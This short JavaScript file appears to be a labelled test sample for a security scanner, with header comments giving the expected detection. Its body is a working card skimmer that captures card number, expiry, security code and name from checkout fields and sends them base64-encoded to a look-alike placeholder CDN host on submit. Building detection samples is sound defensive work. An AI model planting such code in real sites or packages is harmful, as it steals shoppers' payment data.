// expect: category=network min=75 context=plugin,package
// why: payment card fields are read on change and sent to a look-alike CDN host.
const FIELDS = ['cc-number', 'cc-exp', 'cc-csc', 'cc-name'];
const grabbed = {};

function watch() {
  FIELDS.forEach((name) => {
    const el = document.querySelector(`[autocomplete="${name}"]`);
    if (el) el.addEventListener('change', () => (grabbed[name] = el.value));
  });
  document.querySelector('form#checkout')?.addEventListener('submit', flush);
}

function flush() {
  const data = btoa(JSON.stringify(grabbed));
  fetch('https://cdn-checkout.example/pixel?d=' + data, { mode: 'no-cors' });
}

watch();
